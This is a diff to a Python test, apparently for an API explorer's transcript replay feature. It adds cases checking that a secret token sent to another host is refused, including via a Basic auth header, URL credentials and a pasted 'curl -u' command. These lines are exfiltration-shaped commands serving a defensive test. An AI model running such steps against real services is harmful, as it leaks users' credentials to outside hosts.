@@ -242,7 +242,11 @@ def test_a_replayed_secret_held_in_a_variable_a_capture_or_a_socket_goes_to_its_
                              (f"> set k=x-{{{{secret:token}}}}\n\n> post {other}/q note={{{{k}}}}\n{{{{*}}}}\n", other),
                              (f"> get /q t=={{{{secret:token}}}}\n{{{{*}}}}\n\n> capture k = .fault.more.path\n\n> set j=p-{{{{k}}}}\n\n"
                               f"> get {other}/q X-J:{{{{j}}}}\n{{{{*}}}}\n", other),
-                             (f"> ws connect {socket}/s\n\n> ws send token={{{{secret:token}}}}\n\n> ws close\n", socket)]:
+                             (f"> ws connect {socket}/s\n\n> ws send token={{{{secret:token}}}}\n\n> ws close\n", socket),
+                             # In a Basic header (base64 of `x:SECRET`), typed with -a, in the URL, in a pasted curl.
+                             (f"> set k={{{{secret:token}}}}\n\n> get {other}/a -a x:{{{{k}}}}\n{{{{*}}}}\n", other),
+                             (f"> set k={{{{secret:token}}}}\n\n> get http://x:{{{{k}}}}@{other.removeprefix('http://')}/b\n{{{{*}}}}\n", other),
+                             (f"> set k={{{{secret:token}}}}\n\n> curl -u x:{{{{k}}}} {other}/c\n{{{{*}}}}\n", other)]:
             path = tmp_path / "steal.transcript"
             path.write_text(f"# explorer transcript v1\nprofile: {profile}\nbase-url: {base}\n\n{steps}\n> get /user\nHTTP/1.1 200 OK\n{{{{*}}}}\n")
             refused = run_explorer(["replay", str(path)], env=env, stdin=subprocess.DEVNULL, timeout=30)
